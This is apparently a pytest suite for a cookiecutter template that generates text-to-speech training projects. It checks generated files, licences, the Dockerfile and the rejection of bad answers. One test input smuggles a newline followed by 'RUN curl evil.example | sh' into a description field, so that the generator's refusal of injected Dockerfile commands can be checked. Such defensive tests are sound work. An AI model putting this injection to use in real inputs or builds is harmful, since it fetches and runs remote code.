"""Generation: every option value renders, leaves no Jinja behind, and keeps only the chosen model's files."""

import json
import re
import subprocess
import sys

import pytest

from conftest import PY, ROOT, run

MODELS = ["waveglow", "tacotron2", "both", "hifigan", "tacotron2_hifigan", "matcha", "matcha_hifigan"]
LICENSES = ["MIT", "BSD-3-Clause", "Apache-2.0", "Proprietary"]
COMMON = ["train.py", "model.py", "inference.py", "config.json", "distributed.py", "multiproc.py",
          "models/__init__.py", "modules/__init__.py", "utils/data/audio.py", "utils/data/corpus.py",
          "utils/config.py", "utils/checkpoint/files.py", "utils/training/setup.py", "scripts/dataset.sh",
          "scripts/make_demo_corpus.py", "tests", "Dockerfile", "requirements.txt", "README.md", "LICENSE",
          ".gitignore"]
ONLY = {
    "waveglow": ["models/waveglow/__init__.py", "modules/waveglow.py", "tests/test_waveglow.py",
                 "tests/test_parity_waveglow.py", "tests/data/reference/waveglow_tiny_legacy.pt"],
    "hifigan": ["models/hifigan/__init__.py", "modules/hifigan.py", "tests/test_hifigan.py",
                "tests/test_parity_hifigan.py", "tests/data/reference/net_hifigan_v3.npz"],
    "tacotron2": ["models/tacotron2/__init__.py", "modules/tacotron2.py", "modules/attention.py",
                  "models/tacotron2/text/__init__.py", "models/tacotron2/data.py", "scripts/preprocess.py",
                  "tests/test_tacotron2.py", "tests/test_parity_tacotron2.py",
                  "tests/data/reference/text_nvidia.json"],
    "matcha": ["models/matcha/__init__.py", "models/matcha/network.py", "models/matcha/monotonic_align.py",
               "models/matcha/text.py", "models/matcha/data.py", "models/matcha/inference.py", "modules/matcha.py",
               "modules/matcha_decoder.py", "tests/test_matcha.py", "tests/test_matcha_text.py",
               "tests/test_matcha_run.py", "tests/test_matcha_corpora.py", "tests/test_parity_matcha.py",
               "tests/data/reference/net_matcha_vctk.npz", "tests/data/reference/text_matcha.json"],
}
JINJA = re.compile(r"(?<!\$)\{\{|\{%|\{#")  # not ${{ }}: GitHub's and Azure ML's expressions, written on purpose
MARKER = re.compile(r"^\s*(#|<!--)\s*(>>>|<<<)", re.MULTILINE)


def chosen(model):
    return {"both": {"waveglow", "tacotron2"}, "tacotron2_hifigan": {"tacotron2", "hifigan"},
            "matcha_hifigan": {"matcha", "hifigan"}}.get(model, {model})


def is_binary(path) -> bool:
    """Whether ``path`` is binary by its content, git's rule: a NUL byte in its first 8000 bytes (weights, arrays,
    checkpoints of any suffix; a text file with a bad byte is still read, and fails)."""
    with open(path, "rb") as file:
        return b"\0" in file.read(8000)


# Every model and every licence (the licence text does not depend on the model: each licence once, beside WaveGlow).
@pytest.mark.parametrize("model, license_", [(model, "MIT") for model in MODELS] +
                         [("waveglow", license_) for license_ in LICENSES if license_ != "MIT"])
def test_every_option_generates_a_clean_project(bake, model, license_):
    project = bake(example_model=model, license=license_, project_name="Voice Lab", author_name="Ada Lovelace")
    assert project.name == "voice_lab"
    for rel in COMMON:
        assert (project / rel).exists(), f"{rel} missing for example_model={model}"
    for name, files in ONLY.items():
        for rel in files:
            assert (project / rel).exists() == (name in chosen(model)), f"{rel} with example_model={model}"
    with_gta = "tacotron2" in chosen(model) and bool(chosen(model) & {"waveglow", "hifigan"})  # Tacotron2 and a vocoder
    for rel in ("scripts/dump_gta_mels.py", "tests/test_gta.py"):
        assert (project / rel).exists() == with_gta, f"{rel} with example_model={model}"

    for path in project.rglob("*"):
        if path.is_file() and not is_binary(path):  # binary test fixtures: copied as they are
            text = path.read_text()
            assert not JINJA.search(text), f"template syntax left in {path.relative_to(project)}"
            assert not MARKER.search(text), f"block marker left in {path}"
            if path.suffix == ".py":
                compile(text, str(path), "exec")  # a SyntaxError fails the test

    registry = run([PY, "-c", "import models; print(' '.join(models.MODELS))"], cwd=project).stdout.split()
    assert registry == sorted(chosen(model)), f"models/__init__.py registers {registry} for example_model={model}"

    config = json.loads((project / "config.json").read_text())
    for name in ("waveglow", "tacotron2", "hifigan", "matcha"):
        assert (name in config) == (name in chosen(model))
        assert (name in config["tiny"]) == (name in chosen(model))
    assert len((project / "model.py").read_text().splitlines()) < 150, "model.py reads on one screen"
    requirements = (project / "requirements.txt").read_text()
    assert ("inflect" in requirements) == ("tacotron2" in chosen(model))
    assert ("numba" in requirements) == ("phonemizer" in requirements) == ("matcha" in chosen(model))

    licence = (project / "LICENSE").read_text()
    assert "Ada Lovelace" in licence
    expected = {"MIT": "MIT License", "BSD-3-Clause": "BSD 3-Clause License",
                "Apache-2.0": "Apache License, Version 2.0", "Proprietary": "All rights reserved"}[license_]
    assert expected in licence
    assert "Voice Lab" in (project / "README.md").read_text()


def test_defaults_generate_with_no_input(tmp_path):
    proc = subprocess.run([sys.executable, "-m", "cookiecutter", "--no-input", str(ROOT), "-o", str(tmp_path)],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    projects = list(tmp_path.iterdir())
    assert [p.name for p in projects] == ["speech_synthesis"]
    assert (projects[0] / "models" / "waveglow" / "network.py").read_text().count("class WaveGlow(") == 1


def generate_cli(tmp_path, *answers):
    """``cookiecutter --no-input`` of this template into ``tmp_path`` with ``key=value`` answers."""
    return subprocess.run([sys.executable, "-m", "cookiecutter", "--no-input", str(ROOT), "-o", str(tmp_path),
                           *answers], capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("slug, reason", [
    ("1voice", "is not a valid Python identifier"),
    ("my-voice", "is not a valid Python identifier"),
    ("class", "is a Python keyword"),
    ("torch", "would shadow the module 'torch'"),
    ("librosa", "would shadow the module 'librosa'"),
    ("test", "would shadow the module 'test'"),
    ("distributed", "would shadow the module 'distributed'"),
])
def test_bad_slug_is_refused_with_one_error_line(tmp_path, slug, reason):
    proc = generate_cli(tmp_path, f"project_slug={slug}")
    assert proc.returncode != 0
    # cookiecutter adds its own "ERROR: Stopping generation ..." and traceback; ours is the line naming the slug.
    errors = [line for line in proc.stderr.splitlines() if line.startswith("ERROR: project_slug")]
    assert len(errors) == 1 and errors[0].startswith(f"ERROR: project_slug '{slug}' {reason}"), proc.stderr
    assert not any(tmp_path.iterdir()), "nothing may be written for a refused answer"


@pytest.mark.parametrize("answer, message", [
    ({"docker_base_image": "not an image"}, "docker_base_image 'not an image' is not an image reference"),
    ({"project_name": "   "}, "project_name is empty"),
])
def test_other_bad_answers_are_refused(tmp_path, answer, message):
    key, value = next(iter(answer.items()))
    proc = generate_cli(tmp_path, f"{key}={value}", "project_slug=voice")
    assert proc.returncode != 0
    assert f"ERROR: {message}" in proc.stderr


def test_dockerfile_uses_the_chosen_image_and_existing_files(bake):
    image = "nvcr.io/nvidia/pytorch:24.10-py3"
    project = bake(docker_base_image=image)
    lines = [l.strip() for l in (project / "Dockerfile").read_text().splitlines() if l.strip() and not l.startswith("#")]
    assert lines[0] == f"FROM {image}"
    copies = [l.split()[1] for l in lines if l.startswith("COPY")]
    assert "requirements.txt" in copies and "." in copies
    for src in copies:
        assert (project / src).exists(), f"Dockerfile copies {src}, which the project lacks"
    cmd = json.loads(next(l for l in lines if l.startswith("CMD")).removeprefix("CMD"))
    assert cmd[:2] == ["python", "multiproc.py"] and (project / cmd[2]).exists()
    assert (project / cmd[cmd.index("--config") + 1]).exists()
    # The image's CUDA torch must not be replaced by a wheel from the requirements.
    assert "grep -v '^torch' requirements.txt" in (project / "Dockerfile").read_text()


@pytest.mark.parametrize("answer, message", [
    ({"author_name": ""}, "author_name is empty (it is the copyright holder in LICENSE)"),
    ({"author_name": "   "}, "author_name is empty (it is the copyright holder in LICENSE)"),
    ({"project_name": "Voice\nLab"}, "project_name holds a control character (U+000A); give one line of plain text"),
    ({"author_name": "Ada\tLovelace"}, "author_name holds a control character (U+0009)"),
    ({"description": "One line.\nRUN curl evil.example | sh"}, "description holds a control character (U+000A)"),
    ({"description": "Ring \x07 the bell"}, "description holds a control character (U+0007)"),
])
def test_bad_free_text_answers_are_refused_with_one_error_line(tmp_path, answer, message):
    key, value = next(iter(answer.items()))
    proc = generate_cli(tmp_path, f"{key}={value}", "project_slug=voice")
    assert proc.returncode != 0
    # cookiecutter adds its own "ERROR: Stopping generation ..." line; ours is the one naming the answer.
    ours = [line for line in proc.stderr.splitlines()
            if line.startswith("ERROR:") and not line.startswith("ERROR: Stopping generation")]
    assert len(ours) == 1 and ours[0].startswith(f"ERROR: {message}"), proc.stderr
    assert "Traceback" not in proc.stderr and "SyntaxError" not in proc.stderr, proc.stderr
    assert not any(tmp_path.iterdir()), "nothing may be written for a refused answer"


def test_quotes_and_backslashes_in_answers_reach_the_project_verbatim(bake):
    """The hook renders the answers into Python string literals: quotes and backslashes must not break it."""
    name = 'Voice "Lab" \\ 2'
    author = "Seán O'Brien \"Jr\" \\"
    description = 'Says "hi", \'bye\' and """ or \'\'\' \\n without breaking anything.'
    project = bake(project_name=name, author_name=author, description=description, project_slug="voice_lab")
    readme = (project / "README.md").read_text()
    assert readme.startswith(f"# {name}\n") and f"\n{description}\n" in readme
    assert author in (project / "LICENSE").read_text()
    assert (project / "Dockerfile").read_text().startswith(f"# {name}: ")


def test_the_template_holds_no_block_markers():
    """Options are whole files: no ``# >>> name`` blocks for the hook to cut out of a shared file."""
    for path in (ROOT / "{{cookiecutter.project_slug}}").rglob("*"):
        if path.is_file() and "__pycache__" not in path.parts:
            assert not MARKER.search(path.read_text(errors="replace")), f"block marker in {path}"


@pytest.mark.parametrize("vocoder, other", [("waveglow", "hifigan"), ("hifigan", "waveglow")])
def test_a_vocoder_alone_has_no_tacotron2_option_anywhere(bake, vocoder, other):
    project = bake(example_model=vocoder)
    for path in project.rglob("*"):
        # tests/data: the reference fixtures' provenance names the repositories they came from (NVIDIA/tacotron2)
        if path.is_file() and "data" not in path.relative_to(project).parts[:2]:
            text = path.read_text()
            for word in ("tacotron2", "--text", "text_cleaners", "preprocess.py", "models.tacotron2.text",
                         f"models/{other}", f"models.{other}"):
                assert word not in text, f"{path.relative_to(project)} mentions {word}"
    help_text = run([PY, "inference.py", "--help"], cwd=project).stdout
    assert "--wav" in help_text and "--text" not in help_text and "--vocoder" not in help_text


OWN_WORDS = {"waveglow": ["waveglow"], "tacotron2": ["tacotron2"], "hifigan": ["hifigan", "hifi-gan"],
             "matcha": ["matcha"]}
"""How each example model is named; a project of one names no other (NVIDIA's ``TacotronSTFT`` and the framings
``nvidia``/``jik876`` are other words). Matcha-TTS also names a filelist layout every project reads: a project of
another model may name it."""
PART_ANSWERS = [name for name, choices in json.loads((ROOT / "cookiecutter.json").read_text()).items()
                if choices == ["yes", "no"]]


@pytest.mark.parametrize("parts", ["yes", "no"])
@pytest.mark.parametrize("model", list(OWN_WORDS))
def test_a_single_model_project_names_no_other_example_model(bake, model, parts):
    """Outside ``tests/`` (whose reference fixtures name the repositories they came from), with every part or
    none, case-insensitive, as whole words."""
    project = bake(example_model=model, project_slug=f"{model}_{parts}", **dict.fromkeys(PART_ANSWERS, parts))
    others = [word for name, words in OWN_WORDS.items() if name not in (model, "matcha") for word in words]
    pattern = re.compile(rf"(?<![\w])({'|'.join(map(re.escape, others))})(?![\w])", re.IGNORECASE)
    found = [f"{path.relative_to(project)}:{number}: {line.strip()}" for path in sorted(project.rglob("*"))
             if path.is_file() and path.relative_to(project).parts[0] != "tests"
             for number, line in enumerate(path.read_text().splitlines(), start=1) if pattern.search(line)]
    assert not found, "\n".join(found[:20])


def test_the_readme_of_a_project_with_every_part_fits_the_first_hour(bake):
    """The README of the largest project (both models, every part) keeps to a first hour's reading: the quick start
    and a line per capability; the depth is the manual's."""
    lines = len((bake(example_model="both") / "README.md").read_text().splitlines())
    assert lines <= 200, f"the README of both with every part has {lines} lines"


def test_regenerating_over_a_git_project_works_and_leaves_git_alone(tmp_path):
    """``cookiecutter -f`` over an existing project that is a git repository (binary files in .git)."""
    assert generate_cli(tmp_path, "example_model=both").returncode == 0
    project = tmp_path / "speech_synthesis"
    run(["git", "init", "-q"], cwd=project)
    run(["git", "-c", "user.name=t", "-c", "user.email=t@t", "add", "-A"], cwd=project)
    run(["git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "generated"], cwd=project)
    git_files = {p: p.read_bytes() for p in (project / ".git").rglob("*") if p.is_file()}
    (project / "models" / "mine.py").write_text("# the user's own model\n")
    proc = subprocess.run([sys.executable, "-m", "cookiecutter", "--no-input", "-f", str(ROOT), "-o", str(tmp_path),
                           "example_model=waveglow"], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert {p: p.read_bytes() for p in (project / ".git").rglob("*") if p.is_file()} == git_files
    assert (project / "models" / "mine.py").read_text() == "# the user's own model\n"
    assert not (project / "models" / "tacotron2").exists()
    assert run([PY, "train.py", "--help"], cwd=project).returncode == 0


KEEP_A_CHANGELOG_TYPES = ("Added", "Changed", "Deprecated", "Removed", "Fixed", "Security")
"""The kinds of change Keep a Changelog 1.1.0 names (https://keepachangelog.com/en/1.1.0/)."""


def test_the_changelog_follows_keep_a_changelog_and_the_readme_points_to_it():
    """``CHANGELOG.md``: ``# Changelog``, a link to the format, ``## [Unreleased]`` first, then releases
    ``## [name] - YYYY-MM-DD`` newest first; in each, ``### <type>`` sections of Keep a Changelog's types, each once
    and holding items (``- ...``)."""
    text = (ROOT / "CHANGELOG.md").read_text()
    lines = text.splitlines()
    assert lines[0] == "# Changelog" and "https://keepachangelog.com/en/1.1.0/" in text
    releases = [i for i, line in enumerate(lines) if line.startswith("## ")]
    assert releases and lines[releases[0]] == "## [Unreleased]", lines[releases[0]] if releases else "no release"
    dates = [re.fullmatch(r"## \[[^\]\s]+\] - (\d{4}-\d{2}-\d{2})", lines[i]) for i in releases[1:]]
    assert dates and all(dates), [lines[i] for i in releases[1:]]
    assert [d[1] for d in dates] == sorted((d[1] for d in dates), reverse=True), "releases must be newest first"
    assert not [line for line in lines if re.match(r"#{4,} |# (?!Changelog$)", line)], "only ##/### headings"
    for start, end in zip(releases, [*releases[1:], len(lines)]):
        kinds = [line[4:] for line in lines[start:end] if line.startswith("### ")]
        assert kinds and set(kinds) <= set(KEEP_A_CHANGELOG_TYPES), f"{lines[start]}: {kinds}"
        assert len(kinds) == len(set(kinds)), f"{lines[start]}: a type twice in {kinds}"
        sections = "\n".join(lines[start:end]).split("\n### ")[1:]
        assert all("\n- " in section for section in sections), f"{lines[start]}: a section without items"
    assert "CHANGELOG.md" in (ROOT / "README.md").read_text()
